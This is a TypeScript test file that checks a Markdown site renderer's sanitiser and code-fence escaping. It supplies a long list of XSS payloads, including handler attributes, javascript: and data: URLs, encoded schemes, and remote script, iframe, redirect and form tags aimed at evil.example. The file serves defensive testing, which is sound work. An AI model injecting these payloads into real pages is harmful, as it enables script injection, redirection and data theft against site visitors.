import type { Element, Root } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { toString } from 'hast-util-to-string';
import { refractor } from 'refractor/all';
import { visit } from 'unist-util-visit';
import { describe, expect, test } from 'vitest';
import { isPublishableUrl } from '../../src/lib/markdown/publishable-url';
import { renderMarkdown } from '../helpers/render-markdown';

/** Elements that run, style, embed, submit or redirect: none may reach a page. */
const ACTIVE_ELEMENTS = new Set([
  'script',
  'style',
  'iframe',
  'frame',
  'object',
  'embed',
  'meta',
  'link',
  'base',
  'form',
  'svg',
  'math',
  'template',
  'noscript',
]);

/** Every way the HTML a page carries could act, as a browser parses it. */
function activeParts(html: string): string[] {
  const found: string[] = [];
  visit(fromHtml(html, { fragment: true }) as Root, 'element', (element: Element) => {
    if (ACTIVE_ELEMENTS.has(element.tagName)) found.push(`<${element.tagName}>`);
    for (const [name, value] of Object.entries(element.properties)) {
      if (/^on/i.test(name) || name === 'style' || name === 'srcSet') found.push(`${name} on <${element.tagName}>`);
      if ((name === 'href' || name === 'src') && !isPublishableUrl(name, String(value))) found.push(`${name}=${String(value)}`);
    }
  });
  return found;
}

/**
 * Known XSS vectors (after OWASP's filter evasion cheat sheet and GitHub's sanitisation tests),
 * as an author could write them in a post: raw HTML, Markdown links and images, entities,
 * broken markup and mixed case.
 */
const XSS_VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1) alt=x>',
  '<img src="jav&#x09;ascript:alert(1)" alt=x>',
  '<img src="//evil.example/pixel.gif" alt="pixel">',
  '<img """><script>alert(1)</script>">',
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name="q"><button>Go</button></form>',
  '<style>body { display: none }</style>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="java\nscript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<div onmouseover="alert(1)">hover</div>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<a href="https://ok.example/" id="content" class="heading-link">x</a>',
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1) "title")',
  '[click](&#x6A;avascript:alert(1))',
  '[click][ref]\n\n[ref]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](https://tracker.example/p.gif)',
  '![x](//tracker.example/p.gif)',
];

/** Vectors that are no HTML to a Markdown parser (shown as text) or that the HTML parser itself discards. */
const INERT_VECTORS = ['<svg/onload=alert(1)>', '<body onload=alert(1)>', '<https://ok.example/" onmouseover="alert(1)>'];

describe('the allow-list at the end of the pipeline', () => {
  test.each(XSS_VECTORS)('publishes nothing active of %j, and reports it', async (vector) => {
    const { html, report } = await renderMarkdown(`Before.\n\n${vector}\n\nAfter.`);
    expect(activeParts(html)).toEqual([]);
    expect(html).toContain('Before.');
    expect(report.findings.filter((finding) => finding.severity === 'error').length, JSON.stringify(report.findings)).toBeGreaterThan(0);
  });

  test.each(INERT_VECTORS)('publishes nothing active of %j', async (vector) => {
    const { html } = await renderMarkdown(`Before.\n\n${vector}\n\nAfter.`);
    expect(activeParts(html)).toEqual([]);
    expect(html).toContain('After.');
  });

  test('keeps what Markdown and the site’s own plugins make, and reports nothing on it', async () => {
    const markdown = [
      '## Why kcp {#why}',
      '',
      'Text with *emphasis*, **strong**, ~~struck~~, `code`, a [link](https://kcp.io/) and a footnote.[^1]',
      '',
      '- [x] done',
      '',
      '| a | b |',
      '|:--|--:|',
      '| 1 | 2 |',
      '',
      '<details><summary>More</summary>',
      '',
      'Hidden <abbr title="Kubernetes">K8s</abbr>, <kbd>Ctrl</kbd>, <mark>marked</mark>, H<sub>2</sub>O.',
      '',
      '</details>',
      '',
      '```yaml title="values.yaml"',
      'replicas: 2',
      '```',
      '',
      '[^1]: A note.',
    ].join('\n');
    const { html, report } = await renderMarkdown(markdown);
    expect(report.findings).toEqual([]);
    for (const kept of [
      '<h2 id="why">Why kcp</h2>',
      '<a class="heading-link" href="#why"',
      '<del>struck</del>',
      '<input type="checkbox" checked disabled>',
      '<td align="left">1</td>',
      '<abbr title="Kubernetes">K8s</abbr>',
      '<figure class="code-block"',
      '<span class="token key atrule">replicas</span>',
      'data-footnote-ref',
      '<section data-footnotes="" class="footnotes">',
    ]) {
      expect(html).toContain(kept);
    }
  });

  test('leaves no trace of the placeholders it sets MDX aside with', async () => {
    const { html } = await renderMarkdown('<x-mdx-0000000000000000 data-index="0">x</x-mdx-0000000000000000>');
    expect(html).not.toContain('x-mdx');
  });
});

describe('code is always text', () => {
  const PAYLOAD =
    '<script>alert(1)</script>\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n"><img src=x onerror=alert(1)>\nkubectl logs <pod-name>';
  const UNKNOWN = ['gotmpl', 'helm', 'tpl', 'env', 'output', 'no-such-language', '"><b>x</b>'];
  // Every language Prism knows, and several it does not: one body, one render.
  const languages = [...refractor.listLanguages(), ...UNKNOWN];

  test(`renders a fence in each of ${languages.length} languages escaped, its text unchanged`, async () => {
    const body = languages.map((language) => `\`\`\`${language}\n${PAYLOAD}\n\`\`\``).join('\n\n');
    const { html } = await renderMarkdown(body);
    expect(activeParts(html)).toEqual([]);
    const blocks: string[] = [];
    visit(fromHtml(html, { fragment: true }) as Root, 'element', (element: Element) => {
      if (element.tagName === 'pre') blocks.push(toString(element));
    });
    expect(blocks).toHaveLength(languages.length);
    for (const text of blocks) expect(text).toBe(`${PAYLOAD}\n`);
  }, 60_000);
});
